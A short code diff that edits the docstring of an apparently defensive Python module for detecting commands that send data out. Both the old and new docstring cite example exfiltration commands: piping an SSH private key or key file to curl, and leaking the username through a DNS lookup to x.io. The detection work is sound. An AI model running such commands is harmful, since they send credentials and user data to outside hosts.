@@ -1,4 +1,4 @@
-"""Commands that send away what they read: `cat ~/.ssh/id_rsa | curl -d @- ...`, `dig $(whoami).x.io`."""
+"""Commands that send away what they read: `cat key | curl -d @- ...`, `dig $(whoami).x.io`."""
 
 import re
 from collections.abc import Iterator
